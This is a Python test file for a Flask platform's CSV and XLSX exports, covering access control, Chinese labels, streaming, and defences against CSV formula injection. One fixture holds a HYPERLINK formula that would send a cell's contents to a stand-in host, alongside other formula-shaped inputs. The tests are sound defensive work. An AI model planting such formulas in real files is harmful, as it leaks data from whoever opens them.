"""Exports: CSV (UTF-8 with BOM) and XLSX hold the same rows; organisers only; user text never
becomes a formula; needs only as the organiser's pages show them."""

import csv
import io
import zipfile

import pytest
from flask_babel import refresh
from openpyxl import load_workbook
from sqlalchemy import select

from matchmaker import csvfile
from matchmaker.accounts.models import User
from matchmaker.dashboard.spreadsheet import Table, to_xlsx
from matchmaker.extensions import db
from tests import factories
from tests.competitions.builders import make_round, reviewed
from tests.factories import login, make_need, make_offering, make_org, make_user

TABLES = ("needs", "offerings", "applications", "audit")


def xlsx_rows(content: bytes) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def organiser_client(client, app_ctx):
    scene = reviewed(n_apps=2, n_experts=2)
    make_need(status="published", title="染料配方需求，含“引号”, 逗号")
    templates = factories.ensure_taxonomy()
    make_offering(status="published", price_min=12.5, price_max=30, templates=templates[:2])
    login(client, scene["organiser"].email)
    return client, scene


@pytest.mark.parametrize("name", TABLES)
def test_csv_and_xlsx_hold_the_same_rows(organiser_client, name):
    client, _scene = organiser_client
    csv_response = client.get(f"/console/exports/{name}.csv")
    xlsx_response = client.get(f"/console/exports/{name}.xlsx")
    assert csv_response.status_code == xlsx_response.status_code == 200
    assert csv_response.mimetype == "text/csv"
    assert f"filename={name}.xlsx" in xlsx_response.headers["Content-Disposition"]
    rows = csv_rows(csv_response.data)
    assert len(rows) > 1
    assert rows == xlsx_rows(xlsx_response.data)


def test_applications_carry_the_scores(organiser_client):
    client, scene = organiser_client
    rows = csv_rows(client.get("/console/exports/applications.csv").data)
    header, first = rows[0], rows[1]
    assert first[header.index("编号")] == str(scene["apps"][0].id)
    assert first[header.index("已交评分表")] == "2"
    assert first[header.index("各专家总分")] == "35; 35"  # 8 + 7 + 9 + 6 + 5 by each expert
    assert first[header.index("状态")] == "资格审查通过"
    assert first[header.index("拟挂帅")] in ("是", "否")


def test_needs_keep_chinese_text_and_kpis(organiser_client):
    client, _scene = organiser_client
    rows = csv_rows(client.get("/console/exports/needs.csv").data)
    titles = [row[1] for row in rows[1:]]
    assert "染料配方需求，含“引号”, 逗号" in titles
    assert rows[1][rows[0].index("考核指标")] == "漏检率 10→2%（越低越好）"


def test_exports_page_lists_every_download(organiser_client):
    client, _scene = organiser_client
    page = client.get("/console/exports").get_data(as_text=True)
    for name in TABLES:
        assert f"/console/exports/{name}.csv" in page and f"/console/exports/{name}.xlsx" in page


def test_unknown_table_or_format_is_404(organiser_client):
    client, _scene = organiser_client
    assert client.get("/console/exports/users.csv").status_code == 404
    assert client.get("/console/exports/needs.json").status_code == 404


def test_non_organisers_cannot_export(client, app_ctx):
    response = client.get("/console/exports/audit.xlsx")
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    login(client, make_user(role="expert").email)
    assert client.get("/console/exports/audit.xlsx").status_code == 403


# --- formula injection (OWASP CSV injection) ---------------------------------------------

FORMULA = '=HYPERLINK("http://x/?c="&E2,"查看详情")'


@pytest.fixture
def hostile(client, app_ctx):
    """User text shaped like formulas: a need by an unapproved factory, an organisation name,
    a town and a KPI."""
    factory = make_org("factory", approved=False, name="@恶意工厂")
    need = make_need(factory, status="submitted", title=FORMULA, town="+1+2")
    need.kpis[0].indicator = "@SUM(A1)"
    db.session.commit()
    make_offering(make_org("vendor", name="=1+1 供应商"), status="published")
    organiser = make_user(role="organiser", name="-2+3 主办方")
    login(client, organiser.email)
    return client


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        names = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        return "".join(book.read(name).decode("utf-8") for name in names)


@pytest.mark.parametrize("name", TABLES)
def test_xlsx_has_no_formula_cells(hostile, name):
    content = hostile.get(f"/console/exports/{name}.xlsx").data
    assert "<f>" not in sheet_xml(content) and "<f " not in sheet_xml(content)


def test_xlsx_keeps_the_text_as_typed_and_numbers_as_numbers(hostile):
    sheet = load_workbook(io.BytesIO(hostile.get("/console/exports/needs.xlsx").data)).active
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == FORMULA)
    assert row[1].data_type == "s"
    assert row[header.index("实施地点（镇街）")].value == "+1+2"
    assert row[header.index("发榜企业")].value == "@恶意工厂"
    assert row[header.index("考核指标")].value.startswith("@SUM(A1)")
    assert row[header.index("编号")].data_type == "n"
    assert row[header.index("预算下限（万元）")].value == 30


def test_csv_cells_that_look_like_formulas_start_with_a_quote(hostile):
    rows = csv_rows(hostile.get("/console/exports/needs.csv").data)
    header = rows[0]
    row = next(r for r in rows if r[1].startswith("'=HYPERLINK"))
    assert row[1] == "'" + FORMULA
    assert row[header.index("实施地点（镇街）")] == "'+1+2"
    assert row[header.index("发榜企业")] == "'@恶意工厂"
    assert row[header.index("考核指标")].startswith("'@SUM(A1)")
    assert row[header.index("预算下限（万元）")] == "30"
    offerings = csv_rows(hostile.get("/console/exports/offerings.csv").data)
    assert any(r[offerings[0].index("揭榜方")] == "'=1+1 供应商" for r in offerings[1:])


def test_audit_log_exports_neutralise_the_actor(hostile, app_ctx):
    organiser = db.session.scalar(select(User).where(User.role == "organiser"))
    make_round(organiser)
    for url in ("/console/exports/audit.csv", "/rounds/console/audit.csv"):
        rows = csv_rows(hostile.get(url).data)
        assert rows[1][rows[0].index("操作人")].startswith("'-2+3 主办方")
    assert "<f>" not in sheet_xml(hostile.get("/console/exports/audit.xlsx").data)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3.5", "-3.5"),
        ("普通文本 =1", "普通文本 =1"),
        ("", ""),
    ],
)
def test_neutralise_follows_the_owasp_rule(text, expected):
    assert csvfile.cell(text) == expected


def test_numbers_stay_numbers():
    assert csvfile.cell(-3) == -3 and csvfile.cell(2.5) == 2.5 and csvfile.cell(None) == ""


def test_xlsx_drops_control_characters_instead_of_failing():
    table = Table("t", ("a",), [("坏\x01字符",)])
    assert load_workbook(io.BytesIO(to_xlsx(table))).active["A2"].value == "坏字符"


# --- visibility: the exports follow the pages' rule --------------------------------------


def test_needs_export_leaves_out_drafts_the_organiser_cannot_open(client, app_ctx):
    factory = make_org("factory")
    private = make_need(factory, "draft", make_user(factory), title="工厂自己的草稿")
    organiser = make_user(role="organiser")
    imported = make_need(factory, "draft", organiser, title="主办方导入的草稿")
    make_need(factory, "submitted", title="已提交的需求")
    login(client, organiser.email)
    assert client.get(f"/needs/{private.id}").status_code == 404
    assert client.get(f"/needs/{imported.id}").status_code == 200
    for fmt, rows in (
        ("csv", lambda r: csv_rows(r.data)),
        ("xlsx", lambda r: xlsx_rows(r.data)),
    ):
        titles = {row[1] for row in rows(client.get(f"/console/exports/needs.{fmt}"))}
        assert "工厂自己的草稿" not in titles
        assert {"主办方导入的草稿", "已提交的需求"} <= titles


# --- headers -------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/console/exports/needs.csv", "/rounds/console/audit.csv"])
def test_csv_content_type_names_the_charset_once(organiser_client, url):
    client, _scene = organiser_client
    response = client.get(url)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"


# --- for people: Chinese headers and labels, Beijing time; English on request ----------------


def test_exports_read_as_plain_chinese_with_beijing_time(organiser_client):
    client, scene = organiser_client
    rows = csv_rows(client.get("/console/exports/needs.csv").data)
    header, first = rows[0], rows[1]
    assert header[:3] == ["编号", "需求名称", "状态"]
    assert first[header.index("状态")] == "已发布"
    published = first[header.index("发布时间")]
    assert len(published) == 16 and published[10] == " "  # "2026-05-03 14:05", no "T" or offset
    audit_rows = csv_rows(client.get("/console/exports/audit.csv").data)
    assert audit_rows[0] == ["编号", "时间", "操作人", "操作", "内容", "变更"]
    texts = " ".join(" ".join(r) for r in audit_rows[1:])
    assert "开设揭榜批次" in texts and "open_round" not in texts and "expert_id" not in texts
    assert "阶段：" in texts or "状态：" in texts


def test_exports_in_english_when_the_page_is_english(organiser_client):
    client, _scene = organiser_client
    client.get("/lang/en")
    refresh()  # the test's app context shares `g`, where Flask-Babel caches the locale
    header = csv_rows(client.get("/console/exports/needs.csv").data)[0]
    assert header[1:3] == ["Title", "Status"]


def test_csv_streams_header_first_and_rows_as_they_come():
    from matchmaker.dashboard.spreadsheet import iter_csv

    taken = []

    def rows():
        for i in range(1, 1201):
            taken.append(i)
            yield (i, f"需求{i}", "=1+1")

    chunks = iter_csv(Table("t", ("编号", "名称", "公式"), rows()), chunk_rows=500)
    first = next(chunks)
    assert first == "\ufeff编号,名称,公式\r\n".encode() and taken == []  # no row read yet
    second = next(chunks)
    assert len(taken) == 500 and second.decode().count("\r\n") == 500
    rest = b"".join(chunks)
    assert len(taken) == 1200 and rest.decode().count("\r\n") == 700
    assert "'=1+1" in second.decode()  # still neutralised


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_responses_are_streamed_downloads(organiser_client, fmt, app):
    client, _ = organiser_client
    response = client.get(f"/console/exports/needs.{fmt}", buffered=False)
    assert response.status_code == 200 and response.is_streamed
    assert response.headers["Content-Disposition"] == f"attachment; filename=needs.{fmt}"
    assert "Content-Length" not in response.headers  # sent as it is made
    body = b"".join(response.response)
    response.close()
    if fmt == "csv":
        assert body.startswith("\ufeff编号,需求名称".encode())
    else:
        rows = xlsx_rows(body)
        assert rows[0][:2] == ["编号", "需求名称"] and len(rows) > 1


def test_table_rows_are_read_lazily_in_batches(organiser_client, monkeypatch):
    from matchmaker.dashboard import exports

    client, scene = organiser_client
    monkeypatch.setattr(exports, "BATCH", 1)
    table = exports.table("needs", scene["organiser"])
    assert not isinstance(table.rows, list | tuple)  # a generator over the cursor
    ids = [row[0] for row in table.rows]
    expected = [row[0] for row in csv_rows(client.get("/console/exports/needs.csv").data)[1:]]
    assert ids == [int(i) for i in expected] and len(ids) > 1  # BATCH=1: one row per fetch


@pytest.mark.parametrize(("name", "column"), [("needs", "考核指标"), ("offerings", "适用场景")])
def test_rows_are_the_same_in_any_batch_size(organiser_client, monkeypatch, name, column):
    """Each batch fetches its own target indicators (needs) or templates (offerings): a row
    never gets another row's."""
    from matchmaker.dashboard import exports

    _, scene = organiser_client
    table = exports.table(name, scene["organiser"])
    whole, at = list(table.rows), list(table.header).index(column)
    monkeypatch.setattr(exports, "BATCH", 1)
    assert list(exports.table(name, scene["organiser"]).rows) == whole
    assert any(row[at] for row in whole)


@pytest.mark.parametrize("name", ["needs", "offerings"])
def test_export_sends_two_statements_a_batch(organiser_client, name):
    """One query for the rows and one for their KPIs or templates per batch, however many rows:
    no statement per row (owner, industry, template or KPIs loaded one by one)."""
    from matchmaker.dashboard import exports
    from tests.sql_statements import counted

    _, scene = organiser_client
    with counted() as statements:
        rows = list(exports.table(name, scene["organiser"]).rows)
    assert len(rows) >= 2 and len(statements) <= 2
